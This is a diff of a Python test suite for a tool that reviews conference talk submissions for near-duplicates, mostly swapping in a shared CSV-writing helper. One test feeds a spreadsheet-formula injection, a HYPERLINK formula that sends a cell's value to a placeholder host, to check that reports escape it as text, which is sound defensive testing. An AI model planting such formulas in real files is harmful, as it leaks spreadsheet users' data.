@@ -20,16 +20,10 @@ from text_similarity_model.review.duplicates import same_talk_pairs
 from text_similarity_model.review.submissions import read_submissions, submissions_from_records
 from text_similarity_model.review.report import write_report
 
+from tests.support.csv_files import write_csv
+
 FIXTURES = Path(__file__).resolve().parent / "fixtures"
 PRETALX = FIXTURES / "pretalx_submissions.json"
-
-
-def _write_csv(path: Path, rows: list[dict]) -> Path:
-    with path.open("w", newline="", encoding="utf-8") as handle:
-        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
-        writer.writeheader()
-        writer.writerows(rows)
-    return path
 
 
 def _talk(sample_talks, index: int) -> dict:
@@ -47,7 +41,7 @@ def _lightly_edited(talk: dict) -> dict:
 
 
 def test_a_csv_is_read_with_its_ids_and_other_columns(tmp_path, sample_talks):
-    path = _write_csv(tmp_path / "cfp.csv", [
+    path = write_csv(tmp_path / "cfp.csv", [
         {"id": "42", **_talk(sample_talks, 0), "speaker": "Ana", "track": "Python"},
         {"id": "", **_talk(sample_talks, 1), "speaker": "Bia", "track": "Web"},
         {"id": "x", "title": " ", "description": "", "speaker": "Caio", "track": ""},
@@ -62,9 +56,9 @@ def test_a_csv_is_read_with_its_ids_and_other_columns(tmp_path, sample_talks):
 
 
 def test_a_csv_without_id_numbers_rows_and_one_with_code_uses_it(tmp_path, sample_talks):
-    plain = _write_csv(tmp_path / "plain.csv", [_talk(sample_talks, index) for index in range(3)])
+    plain = write_csv(tmp_path / "plain.csv", [_talk(sample_talks, index) for index in range(3)])
     assert [item.id for item in read_submissions(plain).items] == [1, 2, 3]
-    coded = _write_csv(tmp_path / "coded.csv", [{"code": f"C{index}", **_talk(sample_talks, index)} for index in range(2)])
+    coded = write_csv(tmp_path / "coded.csv", [{"code": f"C{index}", **_talk(sample_talks, index)} for index in range(2)])
     assert [item.id for item in read_submissions(coded).items] == ["C0", "C1"]
 
 
@@ -195,16 +189,6 @@ def test_the_pruned_search_finds_every_pair_the_rule_flags_on_random_vectors(thr
     assert found.any()
 
 
-@pytest.fixture(scope="module")
-def real_model(real_csv):
-    from text_similarity_model import Model
-    from text_similarity_model.corpus import read_talks_csv
-
-    model = Model(version="real-review-test")
-    model.train(read_talks_csv(real_csv)[0])
-    return model
-
-
 @pytest.mark.real_corpus
 @pytest.mark.slow
 def test_the_pruned_search_on_the_real_corpus_equals_every_talk_against_every_other(real_model):
@@ -242,7 +226,7 @@ def test_an_edited_copy_of_a_real_talk_is_flagged_already_given(real_model, tmp_
 @pytest.fixture
 def call_csv(tmp_path, sample_talks) -> Path:
     talk = _talk(sample_talks, 16)
-    return _write_csv(tmp_path / "cfp.csv", [
+    return write_csv(tmp_path / "cfp.csv", [
         {"id": "S1", **talk, "speaker": "Ana"},
         {"id": "S2", **_talk(sample_talks, 100), "speaker": "Bia"},
         {"id": "S3", **_lightly_edited(talk), "speaker": "Caio"},
@@ -270,7 +254,7 @@ def test_the_command_names_the_format_first_and_counts_what_it_skipped(capsys, c
 
 
 def test_ids_given_to_two_submissions_are_warned_about(capsys, tmp_path, sample_talks, sample_model_path):
-    path = _write_csv(tmp_path / "cfp.csv", [{"id": "7", **_talk(sample_talks, 0)}, {"id": "7", **_talk(sample_talks, 1)}])
+    path = write_csv(tmp_path / "cfp.csv", [{"id": "7", **_talk(sample_talks, 0)}, {"id": "7", **_talk(sample_talks, 1)}])
     code, out, _ = _review(capsys, path, sample_model_path, "-o", tmp_path / "r.json")
     assert code == 0
     assert "warning: 1 ids name more than one submission (e.g. '7')" in out[1]
@@ -306,7 +290,7 @@ def test_the_csv_report_has_a_row_per_submission_and_related_talk(capsys, call_c
 
 def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(capsys, tmp_path, sample_model_path):
     hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"ver")'
-    path = _write_csv(tmp_path / "cfp.csv", [{"id": "@SUM(1+1)", "title": hostile, "description": "-2+3 Kotlin"},
+    path = write_csv(tmp_path / "cfp.csv", [{"id": "@SUM(1+1)", "title": hostile, "description": "-2+3 Kotlin"},
                                              {"id": "ok", "title": "Kotlin - coroutines", "description": ""}])
     assert _review(capsys, path, sample_model_path, "-o", tmp_path / "r.csv", "-n", "1")[0] == 0
     with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as handle:
@@ -432,7 +416,7 @@ def test_pretalx_tracks_asked_with_expand_are_compared(capsys, tmp_path, sample_
 
 
 def test_the_csv_report_has_the_suggestion_and_the_check(capsys, tmp_path, sample_model_path):
-    path = _write_csv(tmp_path / "cfp.csv", TRACKED)
+    path = write_csv(tmp_path / "cfp.csv", TRACKED)
     assert _review(capsys, path, sample_model_path, "-o", tmp_path / "r.csv", "-n", "1")[0] == 0
     with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as handle:
         rows = {row["submission_id"]: row for row in csv.DictReader(handle)}
@@ -553,7 +537,7 @@ def _title_of(path: Path, identity: str) -> str:
 def test_the_html_report_shows_the_suggestion_and_filters_by_it_in_chromium(capsys, tmp_path, sample_model_path):
     from tests.support.browser import chromium
 
-    path = _write_csv(tmp_path / "cfp.csv", TRACKED)
+    path = write_csv(tmp_path / "cfp.csv", TRACKED)
     report = tmp_path / "r.html"
     assert _review(capsys, path, sample_model_path, "-o", report)[0] == 0
     with chromium() as browser:
